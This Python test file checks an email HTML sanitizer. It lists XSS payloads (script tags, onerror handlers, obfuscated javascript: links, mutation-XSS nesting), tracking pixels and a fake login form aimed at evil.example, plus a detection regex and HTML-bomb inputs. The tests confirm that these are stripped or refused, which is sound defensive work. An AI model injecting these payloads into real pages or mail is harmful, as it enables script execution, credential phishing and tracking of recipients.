"""HTML that may be shown: nothing of what strangers can do with it is left (trust 25, 29, 31 to 34)."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.channels.reading.made import html
from vaxel.channels.mail.reading import read
from vaxel.channels.mail.reading.markup import clean, is_too_much

#: One for each way in; what is harmless of each may stay.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="\u2003javascript:alert(1)">x</a>',
    '<a href="\u00a0\ufeffjavascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/admin/?_method=DELETE">x</a>',
    '<img src="/admin/tickets/1?_method=DELETE">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a 1x" src="cid:a">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<div style="background:url(https://evil.example/)">x</div>',
    "<style>@import url(https://evil.example/a.css)</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '<label for="password">x</label>',
    '<a id="config" name="config" class="button">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    '<video src="https://evil.example/a" poster="https://evil.example/b"></video>',
    '<table background="https://evil.example/a"><tr><td background="x">a</td></tr></table>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if gte mso 9]><img src=https://evil.example/a><![endif]-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    '<p title="</p><script>alert(1)</script>">x</p>',
]
DANGER = re.compile(
    r"<(?:script|svg|math|style|form|input|button|label|iframe|object|embed|link|meta|base|video|audio|textarea|template)"
    r"|<[^>]*\s(?:on\w+|style|class|id|name|srcset|background|poster|action)="
    r"|(?:href|src)=\"(?!https?://|mailto:|tel:|cid:|data:image/(?:png|jpe?g|gif|webp|bmp);)"
    r"|src=\"https?:",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_t29_nothing_active_is_left(payload: str) -> None:
    shown = read(html(f"<p>Hej</p>{payload}<p>slut</p>")).html

    assert shown is not None
    assert DANGER.search(shown) is None, shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_t31_cleaning_twice_changes_nothing(payload: str) -> None:
    once = clean(payload).html

    assert clean(once).html == once


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from([*PAYLOADS, "<p>", "</p>", "<table>", "</a>", "<b>", "x", '"', ">", "&lt;"]), max_size=8)
)
def test_t31_mixtures_stay_clean(pieces: list[str]) -> None:
    once = clean("".join(pieces)).html

    assert DANGER.search(once) is None
    assert clean(once).html == once


def test_what_people_format_stays() -> None:
    markup = (
        '<h2>Fel</h2><p>Se <a href="https://kund.example/a">sidan</a> eller '
        '<a href="mailto:eva@kund.example">mejla</a></p>'
        '<table><tbody><tr><td colspan="2"><b>A</b></td></tr></tbody></table><ul><li>ett</li></ul>'
    )
    shown = read(html(markup)).html

    assert shown == markup.replace('example/a"', 'example/a" rel="noopener noreferrer nofollow"').replace(
        'kund.example">m', 'kund.example" rel="noopener noreferrer nofollow">m'
    )


def test_t33_pictures_elsewhere_are_told_and_not_fetched() -> None:
    mail = read(html('<img src="https://a.example/1.png" alt="Ett"><img src="cid:x"><img src="//b.example/2.png">'))

    assert mail.remote_images == ("https://a.example/1.png", "https://b.example/2.png")
    assert mail.html == '<img src="cid:vaxel-remote-0" alt="Ett"><img src="cid:x"><img src="cid:vaxel-remote-1">'


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 40_000,
        "<b>" * 300 + "<p>x" * 300,
        "<table><tr><td>" * 10_000,
        "&" * 100_000,
        "<p " + "a= " * 100_000,
        "<i>" * 70_000,
    ],
)
def test_t25_html_bombs_are_read_as_text(bomb: str) -> None:
    mail = read(html(f"<p>Hej på er</p>{bomb}"))

    assert is_too_much(bomb)
    assert mail.html is None
    assert mail.text.startswith("Hej på er")
    assert mail.warnings == ("Its HTML is too long or too deep to be shown.",)


def test_t25_long_values_are_dropped() -> None:
    assert read(html(f'<p title="{"a" * 900_000}">Hej</p>')).html == "<p>Hej</p>"
